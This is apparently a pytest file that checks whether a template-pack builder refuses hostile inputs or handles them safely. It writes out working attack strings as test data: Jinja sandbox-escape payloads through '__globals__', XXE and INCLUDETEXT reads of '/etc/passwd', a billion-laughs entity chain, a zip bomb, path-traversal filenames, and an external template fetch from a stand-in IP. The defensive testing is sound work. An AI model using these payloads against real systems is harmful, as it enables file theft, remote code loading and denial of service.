"""A folder of templates that is hostile: the office's own gets the same sandbox as a workbook from elsewhere."""

import io
import os
import shutil
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path

import pytest

from tests.hostile.attacks import ROOT, Attack, Survived, assert_harmless
from tests.hostile.workbooks import WORKBOOK, grid, write
from tests.workbook.raw import package, parts_of

CALLS = (("packs", "check", "pack"), ("build", WORKBOOK, "--pack", "pack"))
TEMPLATE = "risk-register.docx"
_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
TAGS = {
    "a power": "{{ 9**729 }}",
    "a tower of powers": "{{ 9**9**9 }}",
    "a long text": "{{ 'a'*10**9 }}",
    "a long range": "{{ range(10**9)|list }}",
    "a class": "{{ authority.__class__.__mro__ }}",
    "an attribute by filter": "{{ authority|attr('__class__') }}",
    "an attribute by index": "{{ risks['__class__'] }}",
    "an attribute's globals": "{{ risks.__class__.__init__.__globals__ }}",
    "itself": "{{ self.__init__.__globals__ }}",
    "cycler": "{{ cycler.__init__.__globals__ }}",
    "a file": "{% include '../outside/secret.txt' %}",
    "an import": "{% import '/etc/passwd' as x %}",
    "a parent": "{% extends '../outside/secret.txt' %}",
    "a loop": "{% for i in range(10**9) %}x{% endfor %}",
    "loops in loops": "{% for a in risks %}" * 30 + "x" + "{% endfor %}" * 30,
    "loops in loops, as many as Python takes": "{% for a in conditions %}" * 17 + "x" + "{% endfor %}" * 17,
    "a macro": "{% macro m() %}{{ m() }}{% endmacro %}{{ m() }}",
    "a call": "{% call x() %}{% endcall %}",
    "a name set": "{% set x = 9**99999 %}",
    "a change": "{{ risks.append(1) }}",
    "a tag that does not end": "{{ authority",
    "a tag in a tag": "{{ {{ authority }} }}",
    "brackets a thousand deep": "{{ " + "(" * 3000 + "authority" + ")" * 3000 + " }}",
    "filters by the thousand": "{{ authority" + "|upper" * 5000 + " }}",
    "braces": "{" * 30_000,
    "an extension": "{% do risks %}{% debug %}{% autoescape false %}x{% endautoescape %}",
    "a format": "{{ '%999999999d' % 1 }}",
}  # fmt: skip


def _pack(change: Callable[[Path], object]) -> Callable[[Path], None]:
    """A return, and a copy of the pack of the return, changed."""

    def prepare(desk: Path) -> None:
        write(desk, package(parts_of(grid())))
        shutil.copytree(ROOT / "templates" / "safety-valve", desk / "pack")
        change(desk / "pack")

    return prepare


def _parts(change: Callable[[dict[str, bytes]], object]) -> Callable[[Path], None]:
    """The pack with the parts of one template changed in place."""

    def rewritten(folder: Path) -> None:
        with zipfile.ZipFile(folder / TEMPLATE) as whole:
            parts = {name: whole.read(name) for name in whole.namelist()}
        change(parts)
        packed = io.BytesIO()
        with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as written:
            for name, data in parts.items():
                written.writestr(name, data)
        (folder / TEMPLATE).write_bytes(packed.getvalue())

    return _pack(rewritten)


def _tag(text: str) -> Callable[[Path], None]:
    def change(parts: dict[str, bytes]) -> None:
        body = parts["word/document.xml"]
        assert b"{{ risk.heading }}" in body
        parts["word/document.xml"] = body.replace(b"{{ risk.heading }}", text.encode().replace(b"<", b"&lt;"))

    return _parts(change)


def _part(name: str, *pairs: tuple[bytes, bytes]) -> Callable[[Path], None]:
    def change(parts: dict[str, bytes]) -> None:
        for old, new in pairs:
            assert old in parts[name]
            parts[name] = parts[name].replace(old, new, 1)

    return _parts(change)


def _doctype(body: bytes) -> Callable[[Path], None]:
    return _part("word/document.xml", (b"<w:document", body + b"<w:document"))


def _declared(text: str) -> Callable[[Path], None]:
    return _pack(lambda folder: (folder / "pack.toml").write_text(text, encoding="utf-8"))


def _piped(name: str) -> Callable[[Path], None]:
    def change(folder: Path) -> None:
        (folder / name).unlink()
        os.mkfifo(folder / name)

    return _pack(change)


def _replaced(data: bytes) -> Callable[[Path], None]:
    return _pack(lambda folder: (folder / TEMPLATE).write_bytes(data))


def _linked(target: str) -> Callable[[Path], None]:
    def change(folder: Path) -> None:
        (folder / TEMPLATE).unlink()
        (folder / TEMPLATE).symlink_to(target)

    return _pack(change)


def _bomb(folder: Path) -> None:
    with (
        zipfile.ZipFile(folder / TEMPLATE, "a", zipfile.ZIP_DEFLATED) as whole,
        whole.open("word/media/x.xml", "w") as part,
    ):
        for _ in range(300):
            part.write(b" " * (1 << 20))


def _file_for_a_pack(desk: Path) -> None:
    write(desk, package(parts_of(grid())))
    (desk / "pack").write_bytes(b"x")


_DOCUMENT = '[[documents]]\noutput = "{}"\ntemplate = "{}"\ntitle = "{}"\n'
_HEAD = 'title = "x"\nlanguage = "en-GB"\n'
_FIELD = (
    b'<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDETEXT "file:///etc/passwd"</w:instrText>'
    b'<w:fldChar w:fldCharType="end"/></w:r></w:p></w:body>'
)
ATTACKS = {
    **{f"the tag {name}": Attack(_tag(text), CALLS, (0, 1, 2)) for name, text in TAGS.items()},
    "an entity of a file": Attack(_doctype(b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'), CALLS, (1, 2)),
    "entities that laugh": Attack(
        _doctype(b"<!DOCTYPE x [<!ENTITY a 'lol'>" + b"".join(
            b"<!ENTITY %c '%s'>" % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(10)
        ) + b"]>"),
        CALLS,
        (1, 2),
    ),
    "a field that includes a file": Attack(_part("word/document.xml", (b"</w:body>", _FIELD)), CALLS, (0, 1, 2)),
    "a template from a server": Attack(
        _parts(lambda parts: parts.update({
            "word/_rels/document.xml.rels": parts["word/_rels/document.xml.rels"].replace(
                b"</Relationships>",
                f'<Relationship Id="rIdX" Type="{_RELS}/attachedTemplate" Target="http://192.0.2.1/x.dotm" '
                'TargetMode="External"/></Relationships>'.encode(),
            )
        })),
        CALLS,
        (0, 1, 2),
    ),
    "a bomb": Attack(_pack(_bomb), CALLS, (1, 2)),
    "a template that is none": Attack(_replaced(b"PK\3\4"), CALLS, (1, 2)),
    "an empty template": Attack(_replaced(b""), CALLS, (1, 2)),
    "an old template": Attack(_replaced(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600), CALLS, (1, 2)),
    "a template that is a pipe": Attack(_piped(TEMPLATE), CALLS, (1, 2)),
    "a template that is a device": Attack(_linked("/dev/zero"), CALLS, (1, 2)),
    "a declaration that is a pipe": Attack(_piped("pack.toml"), CALLS, (1, 2)),
    "a declaration of a thousand tables": Attack(_declared("[a" + ".a" * 5_000 + "]"), CALLS, (1, 2)),
    "a declaration of brackets": Attack(_declared("a = " + "[" * 50_000), CALLS, (1, 2)),
    "a declaration that is binary": Attack(_declared("\0\1\2"), CALLS, (1, 2)),
    **{
        f"an output called {name[:20]!r}": Attack(_declared(_HEAD + _DOCUMENT.format(name, TEMPLATE, "x")), CALLS, (1, 2))
        for name in ("../../planted.docx", "/tmp/planted.docx", "C:\\\\x.docx", "a/b.docx", "CON.docx", "..docx", "x" * 300 + ".docx", "manifest.json")
    },
    **{
        f"a template called {name[:24]!r}": Attack(_declared(_HEAD + _DOCUMENT.format("x.docx", name, "x")), CALLS, (1, 2))
        for name in ("../return.xlsx", "/etc/passwd", "../../outside/secret.txt", "gone.docx")
    },
    "a title with a program": Attack(_declared(_HEAD + _DOCUMENT.format("x.docx", TEMPLATE, "{{ 9**729 }} {% x %}")), CALLS, (1, 2)),
    "no pack": Attack(lambda desk: write(desk, package(parts_of(grid()))), CALLS, (1, 2)),
    "a file for a pack": Attack(
        _file_for_a_pack, CALLS, (1, 2)
    ),
}  # fmt: skip


@pytest.mark.parametrize("name", ATTACKS)
def test_it_is_refused_or_harmless(name: str, survived: Mapping[str, Survived]) -> None:
    assert_harmless(survived[name])
